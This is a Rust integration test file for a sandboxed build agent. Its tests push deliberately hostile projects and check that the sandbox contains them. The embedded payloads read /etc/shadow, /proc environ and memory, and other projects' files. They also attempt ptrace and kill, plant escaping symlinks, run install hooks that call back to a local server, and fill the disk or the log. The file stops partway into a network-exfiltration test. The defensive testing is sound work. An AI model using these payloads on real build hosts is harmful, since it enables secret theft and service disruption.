//! Hostile builds end to end: a project whose code attacks the build host is pushed through
//! gitstore and built by a real agent, in the real sandbox. Each test checks that the attack got
//! nowhere (the build fails or is contained, and no secret reaches the preview, the log or the
//! status), then that the same agent still builds and publishes an innocent project.
//!
//! The sandbox's own primitives are tested in agent_sandbox.rs; these tests check what the agent
//! does with them: which mounts a build gets, what it publishes, which limits it applies.

use std::io::{ErrorKind, Read, Write};
use std::net::{TcpListener, UdpSocket};
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use kiln_tests::*;

const COLD: Duration = Duration::from_secs(300);
const WARM: Duration = Duration::from_secs(120);
const MIB: u64 = 1 << 20;

/// A value that exists only in a host file the test plants, never in any pushed source: if it
/// shows up in a preview, a log or a status, a build read it.
fn canary(tag: &str) -> String {
    let mut bytes = [0u8; 16];
    std::fs::File::open("/dev/urandom")
        .and_then(|mut f| f.read_exact(&mut bytes))
        .expect("reading /dev/urandom");
    format!("kiln-canary-{tag}-{}", hex::encode(bytes))
}

/// Writes `content` at `path` readable by everyone on the host, so that only the sandbox keeps
/// a build from it.
fn plant(path: &Path, content: &str) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::create_dir_all(path.parent().expect("a parent")).expect("mkdir");
    std::fs::write(path, content).expect("planting a canary");
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o644)).expect("chmod");
}

/// A project built by `pnpm run build` = `node build.js`: no Vite, so no second attempt with
/// another engine and a build of about a second, publishing what build.js writes to `dist/`.
fn node_project(path: &Path, build_js: &str, extra: &[(&str, &str)]) -> Repo {
    let r = Repo::init(path);
    r.write(
        "package.json",
        "{\"name\":\"hostile\",\"private\":true,\"scripts\":{\"build\":\"node build.js\"}}\n",
    );
    r.write("build.js", build_js);
    for (rel, content) in extra {
        r.write(rel, content);
    }
    r.git_ok(&["add", "-A"]);
    r.git_ok(&["commit", "-q", "-m", "hostile"]);
    r
}

/// A site without package.json: published as pushed, with no sandbox run. Its worktree is the
/// victim the hostile builds reach for.
fn victim_site(stack: &Stack, tmp: &Path, victim: &str) -> String {
    let r = Repo::init(&tmp.join(victim));
    r.write("index.html", "<!doctype html><p>the victim's page</p>");
    r.git_ok(&["add", "-A"]);
    r.git_ok(&["commit", "-q", "-m", "victim"]);
    stack.push(&r, victim);
    let st = stack.wait_settled(victim, &r.head(), WARM);
    assert_eq!(st["state"], "ready", "{st:#}");
    let secret = canary("victim-worktree");
    let worktree = worktree(stack, victim);
    assert!(
        worktree.join("index.html").is_file(),
        "{}",
        worktree.display()
    );
    plant(&worktree.join("secret.txt"), &secret);
    secret
}

fn worktree(stack: &Stack, project: &str) -> PathBuf {
    stack
        .state_dir()
        .join("projects")
        .join(project)
        .join("worktree")
}

/// Project ids unique to one test: agents on one host name their build cgroups
/// `kiln/<project>-<project>-<build>-<phase>`, so two tests building a project of the same name
/// at once would kill each other's builds.
struct Names {
    evil: String,
    victim: String,
    innocent: String,
}

fn names(case: &str) -> Names {
    Names {
        evil: format!("hb-{case}-evil"),
        victim: format!("hb-{case}-victim"),
        innocent: format!("hb-{case}-innocent"),
    }
}

/// The second half of every test: after the attack, the same agent installs, builds in the
/// sandbox and publishes an ordinary project.
fn assert_still_serves_an_innocent_project(stack: &Stack, tmp: &Path, innocent: &str) {
    let marker = canary("innocent");
    let app = node_project(
        &tmp.join(innocent),
        &format!(
            "const fs = require('fs')\nfs.mkdirSync('dist', {{ recursive: true }})\n\
             fs.writeFileSync('dist/index.html', '<!doctype html><p>{marker}</p>')\n"
        ),
        &[],
    );
    stack.push(&app, innocent);
    let st = stack.wait_settled(innocent, &app.head(), WARM);
    assert_eq!(
        st["state"],
        "ready",
        "an innocent project no longer builds after the attack: {st:#}\nlog:\n{}",
        stack.build_log(innocent)
    );
    let index = stack
        .published(innocent, "index.html")
        .expect("the innocent project's preview is published");
    assert!(index.contains(&marker), "{index}");
}

/// Every regular file published for `project` (all its builds and its assets union) with its
/// bytes, and every symlink found there.
fn published_tree(stack: &Stack, project: &str) -> (Vec<(PathBuf, Vec<u8>)>, Vec<PathBuf>) {
    fn walk(dir: &Path, files: &mut Vec<(PathBuf, Vec<u8>)>, links: &mut Vec<PathBuf>) {
        for e in std::fs::read_dir(dir).into_iter().flatten().flatten() {
            let p = e.path();
            let Ok(ft) = e.file_type() else { continue };
            if ft.is_symlink() {
                links.push(p);
            } else if ft.is_dir() {
                walk(&p, files, links);
            } else if ft.is_file() {
                let bytes = std::fs::read(&p).unwrap_or_default();
                files.push((p, bytes));
            }
        }
    }
    let mut files = Vec::new();
    let mut links = Vec::new();
    let root = stack.publish_dir().join(project);
    for sub in ["builds", "assets"] {
        walk(&root.join(sub), &mut files, &mut links);
    }
    (files, links)
}

/// Fails, naming where, if any published file of `project`, its build log or its status holds
/// one of `secrets`.
fn assert_nothing_leaked(stack: &Stack, project: &str, secrets: &[&str]) {
    let (files, _) = published_tree(stack, project);
    for (path, bytes) in &files {
        let text = String::from_utf8_lossy(bytes);
        for s in secrets {
            assert!(
                !text.contains(s),
                "secret {s} leaked into the published file {}:\n{text}",
                path.display()
            );
        }
    }
    let log = stack.build_log(project);
    let status = stack.status(project).to_string();
    for s in secrets {
        assert!(
            !log.contains(s),
            "secret {s} leaked into the build log:\n{log}"
        );
        assert!(
            !status.contains(s),
            "secret {s} leaked into the status: {status}"
        );
    }
}

/// The line of `report` that starts with `prefix`, for assertion messages that show the answer.
fn line<'a>(report: &'a str, prefix: &str) -> &'a str {
    report
        .lines()
        .find(|l| l.starts_with(prefix))
        .unwrap_or_else(|| panic!("no line starting with {prefix:?} in:\n{report}"))
}

/// A JavaScript string literal of `s`.
fn js(s: &str) -> String {
    serde_json::Value::from(s).to_string()
}

// ---------------------------------------------------------------------------------------------
// Reading host files
// ---------------------------------------------------------------------------------------------

#[test]
fn hostile_vite_config_reads_host_files() {
    let n = names("vite");
    let stack = Stack::start();
    let tmp = tempfile::tempdir().unwrap();
    let victim_secret = victim_site(&stack, tmp.path(), &n.victim);
    let state_secret = canary("agent-state");
    let state_canary = stack.state_dir().join("canary.txt");
    plant(&state_canary, &state_secret);

    let shadow = std::fs::read_to_string("/etc/shadow").unwrap_or_default();
    let root_hash = shadow
        .lines()
        .find_map(|l| l.strip_prefix("root:"))
        .and_then(|rest| rest.split(':').next())
        .filter(|h| h.len() > 2)
        .map(str::to_owned);
    let targets = [
        "/etc/shadow".to_owned(),
        "/etc/kiln/kiln.env".to_owned(),
        "/proc/1/environ".to_owned(),
        state_canary.display().to_string(),
        worktree(&stack, &n.victim)
            .join("secret.txt")
            .display()
            .to_string(),
    ];
    let list = targets.iter().map(|t| js(t)).collect::<Vec<_>>().join(", ");
    // Vite runs the config as Node code with the build's rights: it also tries every host path
    // the mount table gives away (the overlay's lower and upper dirs) and the victim beside them.
    let config = format!(
        r#"import {{ defineConfig }} from 'vite'
import react from '@vitejs/plugin-react'
import fs from 'node:fs'
const mounts = (() => {{ try {{ return fs.readFileSync('/proc/self/mountinfo', 'utf8') }} catch (e) {{ return '' }} }})()
const named = [...mounts.matchAll(/(?:lowerdir|upperdir|workdir)=([^,\s]+)/g)].flatMap(m => m[1].split(':'))
const guesses = named.flatMap(d => [d + '/../../{victim}/worktree/secret.txt', d + '/../../../canary.txt', d + '/../../../../canary.txt'])
const got: string[] = []
for (const p of [{list}, ...guesses]) {{
  try {{ got.push(p + ': READ ' + fs.readFileSync(p, 'latin1')) }} catch (e: any) {{ got.push(p + ': ' + e.code) }}
}}
console.log('kiln-exfil:\n' + got.join('\n'))
export default defineConfig({{
  plugins: [react(), {{ name: 'kiln-exfil', generateBundle() {{ this.emitFile({{ type: 'asset', fileName: 'got.txt', source: got.join('\n') }}) }} }}],
}})
"#,
        victim = n.victim,
    );
    let app = fixture_app(&tmp.path().join(&n.evil));
    app.commit_file("vite.config.ts", &config);
    stack.push(&app, &n.evil);
    let st = stack.wait_settled(&n.evil, &app.head(), COLD);
    let log = stack.build_log(&n.evil);
    let mut secrets = vec![victim_secret.as_str(), state_secret.as_str()];
    if let Some(h) = &root_hash {
        secrets.push(h);
    }
    assert_nothing_leaked(&stack, &n.evil, &secrets);
    assert_eq!(st["state"], "ready", "{st:#}\n{log}");
    let got = stack
        .published(&n.evil, "got.txt")
        .expect("the config ran and its findings were published");
    assert!(!got.contains(": READ"), "a host file was readable:\n{got}");
    // Not there at all: the sandbox's /etc is generated, and the host's paths do not exist.
    for t in &targets[..2] {
        assert_eq!(line(&got, t), format!("{t}: ENOENT"), "{got}");
    }
    assert_eq!(line(&got, "/proc/1/environ"), "/proc/1/environ: EACCES");
    for t in &targets[3..] {
        assert_eq!(line(&got, t), format!("{t}: ENOENT"), "{got}");
    }
    assert!(log.contains("kiln-exfil:"), "{log}");
    assert_still_serves_an_innocent_project(&stack, tmp.path(), &n.innocent);
}

#[test]
fn hostile_ptrace_of_another_process() {
    let n = names("ptrace");
    let mut stack = Stack::start();
    let tmp = tempfile::tempdir().unwrap();
    let agent = stack.agent.id();
    // The agent's command line holds the webhook secret: reading the agent's /proc entries,
    // memory or registers through ptrace would give it away.
    let build = format!(
        r#"const fs = require('fs')
const {{ spawnSync }} = require('child_process')
const out = []
const read = p => {{
  try {{ const b = fs.readFileSync(p); out.push(`${{p}}: READ ${{b.toString('latin1').replace(/\0/g, ' ')}}`) }}
  catch (e) {{ out.push(`${{p}}: ${{e.code}}`) }}
}}
const peek = (pid) => {{
  // /proc/<pid>/mem at the first readable mapping, as a debugger reads it.
  try {{
    const first = fs.readFileSync(`/proc/${{pid}}/maps`, 'latin1').split('\n')[0]
    const at = BigInt('0x' + first.split('-')[0])
    const fd = fs.openSync(`/proc/${{pid}}/mem`, 'r')
    const buf = Buffer.alloc(64)
    fs.readSync(fd, buf, 0, 64, at)
    out.push(`mem ${{pid}}: READ`)
  }} catch (e) {{ out.push(`mem ${{pid}}: ${{e.code}}`) }}
}}
for (const pid of [{agent}, 1]) {{
  for (const f of ['cmdline', 'environ', 'maps']) read(`/proc/${{pid}}/${{f}}`)
  peek(pid)
  // PTRACE_ATTACH (16) through syscall 101 on x86_64; perl is on every Debian host.
  const r = spawnSync('/usr/bin/perl', ['-e', `syscall(101, 16, ${{pid}}, 0, 0) == -1 ? print "ptrace ${{pid}}: " . ($!+0) . " $!\n" : print "ptrace ${{pid}}: ATTACHED\n"`])
  out.push((r.stdout || '').toString().trim() || `ptrace ${{pid}}: perl ${{r.error && r.error.code}} ${{r.stderr}}`)
  try {{ process.kill(pid, 'SIGKILL'); out.push(`kill ${{pid}}: SENT`) }} catch (e) {{ out.push(`kill ${{pid}}: ${{e.code}}`) }}
}}
for (const d of fs.readdirSync('/proc').filter(n => /^\d+$/.test(n))) read(`/proc/${{d}}/cmdline`)
console.log(out.join('\n'))
fs.mkdirSync('dist', {{ recursive: true }})
fs.writeFileSync('dist/index.html', '<!doctype html><p>ptrace</p>')
fs.writeFileSync('dist/got.txt', out.join('\n'))
"#
    );
    let evil = node_project(&tmp.path().join(&n.evil), &build, &[]);
    stack.push(&evil, &n.evil);
    let st = stack.wait_settled(&n.evil, &evil.head(), WARM);
    let log = stack.build_log(&n.evil);
    assert_nothing_leaked(&stack, &n.evil, &[WEBHOOK_SECRET]);
    assert_eq!(st["state"], "ready", "{st:#}\n{log}");
    let got = stack.published(&n.evil, "got.txt").expect("got.txt");
    // The agent is outside the build's pid namespace: no such process there.
    for f in ["cmdline", "environ", "maps"] {
        let p = format!("/proc/{agent}/{f}");
        assert_eq!(line(&got, &p), format!("{p}: ENOENT"));
    }
    assert_eq!(
        line(&got, &format!("mem {agent}:")),
        format!("mem {agent}: ENOENT")
    );
    assert_eq!(
        line(&got, &format!("ptrace {agent}:")),
        format!("ptrace {agent}: 3 No such process")
    );
    assert_eq!(
        line(&got, &format!("kill {agent}:")),
        format!("kill {agent}: ESRCH")
    );
    // PID 1 of the sandbox is root's init: another uid, so no ptrace, no memory, no signal.
    assert_eq!(line(&got, "/proc/1/environ"), "/proc/1/environ: EACCES");
    assert_eq!(line(&got, "mem 1:"), "mem 1: EACCES");
    assert_eq!(
        line(&got, "ptrace 1:"),
        "ptrace 1: 1 Operation not permitted"
    );
    assert_eq!(line(&got, "kill 1:"), "kill 1: EPERM");
    assert!(!got.contains("ATTACHED") && !got.contains("SENT"), "{got}");
    assert!(
        stack.agent.try_wait().expect("polling the agent").is_none(),
        "the agent died:\n{}",
        stack.agent_log()
    );
    assert_still_serves_an_innocent_project(&stack, tmp.path(), &n.innocent);
}

#[test]
fn hostile_symlink_in_node_modules_to_host_file() {
    let n = names("nmlink");
    let stack = Stack::start();
    let tmp = tempfile::tempdir().unwrap();
    let victim_secret = victim_site(&stack, tmp.path(), &n.victim);
    let state_secret = canary("agent-state");
    let state_canary = stack.state_dir().join("canary.txt");
    plant(&state_canary, &state_secret);
    let victim_file = worktree(&stack, &n.victim).join("secret.txt");

    // Links by absolute host path, and relative ones that climb from the build's upper dir on
    // the host (<state>/builds/<p>-<n>/project/upper) to the victim, both from node_modules and
    // from dist: whichever namespace resolves them, no secret may come out.
    let build = format!(
        r#"const fs = require('fs')
const links = {{
  'x-shadow': '/etc/shadow',
  'x-state': {state},
  'x-victim': {victim_file},
  'x-victim-rel': '../../../../../projects/{victim}/worktree/secret.txt',
  'x-victim-dir': '../../../../../projects/{victim}/worktree',
}}
fs.mkdirSync('node_modules', {{ recursive: true }})
fs.mkdirSync('dist/assets', {{ recursive: true }})
const out = []
for (const [name, target] of Object.entries(links)) {{
  fs.symlinkSync(target, `node_modules/${{name}}`)
  try {{ const t = fs.readFileSync(`node_modules/${{name}}`, 'latin1'); out.push(`${{name}}: READ ${{t}}`); fs.writeFileSync(`dist/${{name}}.txt`, t) }}
  catch (e) {{ out.push(`${{name}}: ${{e.code}}`) }}
  try {{ fs.cpSync(`node_modules/${{name}}`, `dist/copied-${{name}}`, {{ dereference: false, verbatimSymlinks: true, recursive: true }}) }} catch (e) {{ out.push(`cp ${{name}}: ${{e.code}}`) }}
  fs.symlinkSync(target, `dist/${{name}}`)
  fs.symlinkSync(`../../node_modules/${{name}}`, `dist/assets/${{name}}.js`)
}}
try {{ out.push('require: ' + require('x-victim-rel')) }} catch (e) {{ out.push('require: ' + e.code) }}
console.log(out.join('\n'))
fs.writeFileSync('dist/index.html', '<!doctype html><p>links</p>')
fs.writeFileSync('dist/got.txt', out.join('\n'))
"#,
        state = js(&state_canary.display().to_string()),
        victim = n.victim,
        victim_file = js(&victim_file.display().to_string()),
    );
    let evil = node_project(&tmp.path().join(&n.evil), &build, &[]);
    stack.push(&evil, &n.evil);
    let st = stack.wait_settled(&n.evil, &evil.head(), WARM);
    let log = stack.build_log(&n.evil);
    assert_nothing_leaked(&stack, &n.evil, &[&victim_secret, &state_secret]);
    assert_eq!(st["state"], "ready", "{st:#}\n{log}");
    let got = stack.published(&n.evil, "got.txt").expect("got.txt");
    assert!(!got.contains("READ"), "{got}");
    let (files, links) = published_tree(&stack, &n.evil);
    assert!(links.is_empty(), "symlinks were published: {links:?}");
    let published: Vec<String> = files
        .iter()
        .map(|(p, _)| p.file_name().unwrap().to_string_lossy().into_owned())
        .collect();
    assert!(
        !published
            .iter()
            .any(|f| f.starts_with("x-") || f == "secret.txt"),
        "a linked file was published: {published:?}"
    );
    assert!(
        log.contains("not published (not a regular file): x-victim-dir"),
        "the log says what was left out:\n{log}"
    );
    assert_still_serves_an_innocent_project(&stack, tmp.path(), &n.innocent);
}

/// The output of a `build` script is `dist/` in the overlay's upper dir, which publishing reads
/// on the host, as root: a `dist` that is itself a symlink must not be followed there, where a
/// relative target climbs to the state dir and every other project's sources.
#[test]
fn hostile_dist_symlinked_to_another_projects_worktree() {
    let n = names("distlink");
    let stack = Stack::start();
    let tmp = tempfile::tempdir().unwrap();
    let victim_secret = victim_site(&stack, tmp.path(), &n.victim);
    let evil = node_project(
        &tmp.path().join(&n.evil),
        &format!(
            "const fs = require('fs')\n\
             fs.rmSync('dist', {{ recursive: true, force: true }})\n\
             fs.symlinkSync('../../../../projects/{}/worktree', 'dist')\n\
             console.log('dist ->', fs.readlinkSync('dist'))\n",
            n.victim
        ),
        &[],
    );
    stack.push(&evil, &n.evil);
    let st = stack.wait_settled(&n.evil, &evil.head(), WARM);
    assert_nothing_leaked(&stack, &n.evil, &[&victim_secret]);
    assert!(
        !stack
            .published(&n.evil, "index.html")
            .is_some_and(|i| i.contains("the victim's page")),
        "the victim's worktree was published as the hostile project's preview"
    );
    assert_eq!(
        st["state"],
        "failed",
        "a dist that leads out of the build has nothing to publish: {st:#}\n{}",
        stack.build_log(&n.evil)
    );
    assert_still_serves_an_innocent_project(&stack, tmp.path(), &n.innocent);
}

// ---------------------------------------------------------------------------------------------
// Install
// ---------------------------------------------------------------------------------------------

/// Answers requests on `listener` with `files` by path (404 otherwise), recording every request
/// line it gets, until the test ends.
fn file_server(listener: TcpListener, files: Vec<(String, Vec<u8>)>) -> Arc<Mutex<Vec<String>>> {
    let seen = Arc::new(Mutex::new(Vec::new()));
    let record = seen.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut s) = stream else { continue };
            let _ = s.set_read_timeout(Some(Duration::from_secs(10)));
            let mut head = Vec::new();
            let mut byte = [0u8; 1];
            while !head.ends_with(b"\r\n\r\n") && s.read(&mut byte).unwrap_or(0) == 1 {
                head.push(byte[0]);
            }
            let text = String::from_utf8_lossy(&head).into_owned();
            let request = text.lines().next().unwrap_or_default().to_owned();
            let path = request.split(' ').nth(1).unwrap_or_default().to_owned();
            record.lock().unwrap().push(request);
            let _ = match files.iter().find(|(p, _)| *p == path) {
                Some((_, body)) => write!(
                    s,
                    "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n\
                     Content-Length: {}\r\nConnection: close\r\n\r\n",
                    body.len()
                )
                .and_then(|_| s.write_all(body)),
                None => write!(
                    s,
                    "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
                ),
            };
        }
    });
    seen
}

/// Paths under `dir` whose name contains `needle`, down to `depth` levels (symlinks not
/// followed).
fn find_named(dir: &Path, needle: &str, depth: usize, found: &mut Vec<PathBuf>) {
    for e in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let p = e.path();
        if e.file_name().to_string_lossy().contains(needle) {
            found.push(p.clone());
        }
        if depth > 1 && e.file_type().is_ok_and(|t| t.is_dir()) {
            find_named(&p, needle, depth - 1, found);
        }
    }
}

#[test]
fn hostile_lifecycle_script_not_run() {
    let n = names("lifecycle");
    let stack = Stack::start();
    let tmp = tempfile::tempdir().unwrap();
    let token = canary("marker");
    let listener = TcpListener::bind("127.0.0.1:0").expect("listening");
    let port = listener.local_addr().expect("addr").port();
    let tarball = "/kiln-evil-dep-1.0.0.tgz";

    // The dependency is a tarball this test serves (install has the network): each of its
    // lifecycle scripts would drop a marker wherever it can write and call the server back.
    let pkg = tmp.path().join("dep/package");
    std::fs::create_dir_all(&pkg).unwrap();
    let hook = |what: &str| format!("node hook.js {what}");
    let manifest = serde_json::json!({
        "name": "kiln-evil-dep",
        "version": "1.0.0",
        "main": "index.js",
        "scripts": {
            "preinstall": hook("dep-preinstall"),
            "install": hook("dep-install"),
            "postinstall": hook("dep-postinstall"),
            "prepare": hook("dep-prepare"),
        },
    });
    std::fs::write(pkg.join("package.json"), manifest.to_string()).unwrap();
    std::fs::write(
        pkg.join("index.js"),
        "module.exports = 'kiln-evil-dep loaded'\n",
    )
    .unwrap();
    std::fs::write(
        pkg.join("hook.js"),
        format!(
            "const fs = require('fs'), path = require('path'), http = require('http')\n\
             const what = process.argv[2]\n\
             for (const dir of [process.cwd(), process.env.INIT_CWD, '/kiln', '/kiln/nm', '/kiln/store', '/tmp']) {{\n\
             \x20 try {{ fs.writeFileSync(path.join(dir || '.', '{token}-' + what), 'ran') }} catch (e) {{}}\n\
             }}\n\
             http.get('http://127.0.0.1:{port}/ran/' + what).on('error', () => {{}})\n"
        ),
    )
    .unwrap();
    let tgz = tmp.path().join("dep.tgz");
    let out = run(std::process::Command::new("tar")
        .arg("-czf")
        .arg(&tgz)
        .arg("-C")
        .arg(tmp.path().join("dep"))
        .arg("package"));
    assert!(out.ok, "tar: {}", out.stderr);
    let seen = file_server(
        listener,
        vec![(tarball.to_owned(), std::fs::read(&tgz).unwrap())],
    );

    // The project's own scripts do the same, and its settings ask pnpm for every script back.
    let root_hook = |what: &str| {
        format!(
            "node -e \"require('fs').writeFileSync('{token}-{what}', 'ran'); \
             require('http').get('http://127.0.0.1:{port}/ran/{what}').on('error', () => {{}})\""
        )
    };
    let package = serde_json::json!({
        "name": "hostile-lifecycle",
        "private": true,
        "scripts": {
            "preinstall": root_hook("root-preinstall"),
            "install": root_hook("root-install"),
            "postinstall": root_hook("root-postinstall"),
            "prepare": root_hook("root-prepare"),
            "build": "node build.js",
        },
        "dependencies": { "kiln-evil-dep": format!("http://127.0.0.1:{port}{tarball}") },
    });
    let build = format!(
        r#"const fs = require('fs')
let dep
try {{ dep = require('kiln-evil-dep') }} catch (e) {{ dep = 'missing: ' + e.code }}
const found = []
const walk = d => {{
  for (const e of fs.readdirSync(d, {{ withFileTypes: true }})) {{
    const p = d + '/' + e.name
    if (e.name.includes('{token}')) found.push(p)
    if (e.isDirectory()) walk(p)
  }}
}}
walk('/app')
fs.mkdirSync('dist', {{ recursive: true }})
fs.writeFileSync('dist/index.html', `<!doctype html><p>dep: ${{dep}}</p><p>markers: ${{found.join(' ') || 'none'}}</p>`)
"#
    );
    let evil = node_project(
        &tmp.path().join(&n.evil),
        &build,
        &[
            ("package.json", &format!("{package:#}\n")),
            (
                ".npmrc",
                "ignore-scripts=false\nenable-pre-post-scripts=true\n",
            ),
            ("pnpm-workspace.yaml", "dangerouslyAllowAllBuilds: true\n"),
        ],
    );
    stack.push(&evil, &n.evil);
    let st = stack.wait_settled(&n.evil, &evil.head(), WARM);
    let log = stack.build_log(&n.evil);
    assert_eq!(st["state"], "ready", "{st:#}\n{log}");
    assert!(
        log.contains("--ignore-scripts"),
        "install runs without scripts:\n{log}"
    );
    let index = stack.published(&n.evil, "index.html").expect("index.html");
    assert!(
        index.contains("dep: kiln-evil-dep loaded"),
        "the dependency was installed, so its scripts had their chance: {index}"
    );
    assert!(
        index.contains("markers: none"),
        "a lifecycle script ran: {index}"
    );
    let requests = seen.lock().unwrap().clone();
    assert!(
        requests.iter().any(|r| r.contains(tarball)),
        "the tarball was fetched: {requests:?}"
    );
    assert!(
        !requests.iter().any(|r| r.contains("/ran/")),
        "a lifecycle script ran and called back: {requests:?}"
    );
    let mut markers = Vec::new();
    find_named(&stack.state_dir(), &token, 16, &mut markers);
    let install: serde_json::Value = serde_json::from_slice(
        &std::fs::read(
            stack
                .state_dir()
                .join("projects")
                .join(&n.evil)
                .join("install.json"),
        )
        .unwrap(),
    )
    .unwrap();
    let nm = shared_volume().join("nm").join(
        install["nm"]
            .as_str()
            .expect("the install's node_modules dir"),
    );
    find_named(&nm, &token, 16, &mut markers);
    for top in [
        shared_volume(),
        shared_volume().join("nm"),
        shared_volume().join("store"),
    ] {
        find_named(&top, &token, 1, &mut markers);
    }
    assert!(
        markers.is_empty(),
        "lifecycle scripts left markers: {markers:?}"
    );
    assert_still_serves_an_innocent_project(&stack, tmp.path(), &n.innocent);
}

// ---------------------------------------------------------------------------------------------
// Resources
// ---------------------------------------------------------------------------------------------

/// Bytes of the regular files under `dir` (symlinks not followed).
fn du(dir: &Path) -> u64 {
    let mut total = 0;
    for e in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        match e.file_type() {
            Ok(t) if t.is_dir() => total += du(&e.path()),
            Ok(t) if t.is_file() => total += e.metadata().map_or(0, |m| m.len()),
            _ => {}
        }
    }
    total
}

#[test]
fn hostile_disk_fill_of_the_project_dir() {
    let n = names("diskfill");
    // What this test expects a build to be able to put on the host's disk, per writable dir, at
    // most: twice the sandbox's /tmp, which already stops at 512 MiB. The hostile build stops
    // by itself there, so that a missing limit cannot fill the test machine.
    const CAP_MIB: u64 = 1024;
    const TIMEOUT_SECS: u64 = 20;
    // The limit under test, well below the cap (production: half the build memory).
    const DISK_MIB: u64 = 256;
    let stack = Stack::start_with(&[
        "--build-timeout-secs",
        &TIMEOUT_SECS.to_string(),
        "--max-output-mb",
        "64",
        "--build-disk-mb",
        &DISK_MIB.to_string(),
    ]);
    let tmp = tempfile::tempdir().unwrap();
    let build = format!(
        r#"const fs = require('fs')
const chunk = Buffer.alloc(16 << 20, 120)
const started = Date.now()
const refused = []
for (const dir of ['/tmp/fill', '/app/fill', '/out/fill']) {{
  let total = 0
  try {{
    fs.mkdirSync(dir, {{ recursive: true }})
    for (let n = 0; total < {CAP_MIB} * 1048576; n++) {{ fs.writeFileSync(`${{dir}}/${{n}}`, chunk); total += chunk.length }}
    console.log(`${{dir}}: CAP ${{total >> 20}} MiB written in ${{(Date.now() - started) / 1000}} s`)
  }} catch (e) {{
    console.log(`${{dir}}: ${{e.code}} after ${{total >> 20}} MiB`)
    refused.push(dir)
  }}
}}
if (refused.length === 3) {{ console.error('Error: no space left on the device'); process.exit(1) }}
// Hold what was written until the timeout, as an endless writer would at its worst moment.
setInterval(() => {{}}, 1000)
"#
    );
    let evil = node_project(&tmp.path().join(&n.evil), &build, &[]);
    stack.push(&evil, &n.evil);
    let pushed = Instant::now();
    let builds = stack.state_dir().join("builds");
    let mut peak = 0;
    while pushed.elapsed() < WARM {
        peak = peak.max(du(&builds));
        // Unknown (404) until the push's webhook has reached the agent.
        let r = stack.agent_http("GET", &format!("/status/{}", n.evil));
        let st = if r.status == 200 {
            r.json()
        } else {
            serde_json::Value::Null
        };
        if st["commit"] == evil.head().as_str()
            && !matches!(
                st["state"].as_str(),
                Some("queued" | "syncing" | "installing" | "building" | "publishing")
            )
        {
            break;
        }
        std::thread::sleep(Duration::from_millis(250));
    }
    let st = stack.wait_settled(&n.evil, &evil.head(), WARM);
    let log = stack.build_log(&n.evil);
    let error = st["error"].as_str().unwrap_or_default();
    assert!(
        (st["state"] == "timed_out" && error.contains(&format!("timed out after {TIMEOUT_SECS}s")))
            || (st["state"] == "failed" && error.contains("no space left")),
        "the build ends with its reason: {st:#}\n{log}"
    );
    assert!(
        pushed.elapsed() < Duration::from_secs(TIMEOUT_SECS + 60),
        "took {:?}",
        pushed.elapsed()
    );
    let left: Vec<_> = std::fs::read_dir(&builds)
        .into_iter()
        .flatten()
        .flatten()
        .map(|e| e.file_name())
        .collect();
    assert!(
        left.is_empty(),
        "the build's scratch stays on disk: {left:?}"
    );
    assert_still_serves_an_innocent_project(&stack, tmp.path(), &n.innocent);
    // Last, so that the checks above hold whichever way this goes: every writable dir has a
    // bound, or the host's disk is only as safe as the build timeout is short.
    let tmp_line = line(&log, "/tmp/fill:");
    assert!(tmp_line.contains("ENOSPC"), "{tmp_line}");
    for dir in ["/app/fill:", "/out/fill:"] {
        let l = line(&log, dir);
        assert!(
            l.contains("ENOSPC") || l.contains("EDQUOT"),
            "no limit stopped the build writing to the host's disk: `{l}`; the agent's scratch \
             held {} MiB at peak, and only the {TIMEOUT_SECS}s build timeout ends it \
             (production: --build-timeout-secs 300)\n{log}",
            peak / MIB
        );
    }
}

#[test]
fn hostile_endless_output_to_the_log() {
    let n = names("endless");
    const LIMIT_MIB: u64 = 1;
    const TIMEOUT_SECS: u64 = 10;
    let stack = Stack::start_with(&[
        "--build-timeout-secs",
        &TIMEOUT_SECS.to_string(),
        "--log-limit-mb",
        &LIMIT_MIB.to_string(),
    ]);
    let tmp = tempfile::tempdir().unwrap();
    let evil = node_project(
        &tmp.path().join(&n.evil),
        // Blocking writes to fd 1: process.stdout queues in memory when the pipe is full and
        // a loop that never yields never drains it.
        "const fs = require('fs')\n\
         const line = 'kiln-endless-output '.repeat(50) + '\\n'\n\
         for (;;) { try { fs.writeSync(1, line) } catch (e) { if (e.code !== 'EAGAIN') throw e } }\n",
        &[],
    );
    stack.push(&evil, &n.evil);
    let pushed = Instant::now();
    let st = stack.wait_settled(&n.evil, &evil.head(), WARM);
    let took = pushed.elapsed();
    let log = stack.build_log(&n.evil);
    let shown = &log[..log.len().min(2000)];
    assert_eq!(st["state"], "timed_out", "{st:#}\n{shown}");
    assert!(
        st["error"]
            .as_str()
            .is_some_and(|e| e.contains(&format!("timed out after {TIMEOUT_SECS}s"))),
        "{st:#}"
    );
    assert!(
        took < Duration::from_secs(TIMEOUT_SECS + 60),
        "took {took:?}"
    );
    let marker = "\n[kiln] log truncated: it reached its size limit\n";
    assert!(log.contains("kiln-endless-output"), "{shown}");
    assert!(
        log.ends_with(marker),
        "the log ends saying it was cut: ...{}",
        &log[log.len().saturating_sub(300)..]
    );
    assert!(
        log.len() as u64 <= LIMIT_MIB * MIB + marker.len() as u64,
        "the log is {} bytes, over its {LIMIT_MIB} MiB limit",
        log.len()
    );
    for e in std::fs::read_dir(
        stack
            .state_dir()
            .join("projects")
            .join(&n.evil)
            .join("logs"),
    )
    .expect("the project's logs")
    .flatten()
    {
        let len = e.metadata().unwrap().len();
        assert!(
            len <= LIMIT_MIB * MIB + marker.len() as u64,
            "{} is {len} bytes on disk",
            e.path().display()
        );
    }
    assert_still_serves_an_innocent_project(&stack, tmp.path(), &n.innocent);
}

// ---------------------------------------------------------------------------------------------
// Network
// ---------------------------------------------------------------------------------------------

#[test]
fn hostile_network_exfiltration_during_install_or_build() {
    let n = names("network");
    let stack = Stack::start();
    let tmp = tempfile::tempdir().unwrap();
    let tcp = TcpListener::bind("127.0.0.1:0").expect("listening");
    tcp.set_nonblocking(true).unwrap();
    let tcp_port = tcp.local_addr().unwrap().port();
    let udp = UdpSocket::bind("127.0.0.1:0").expect("binding udp");
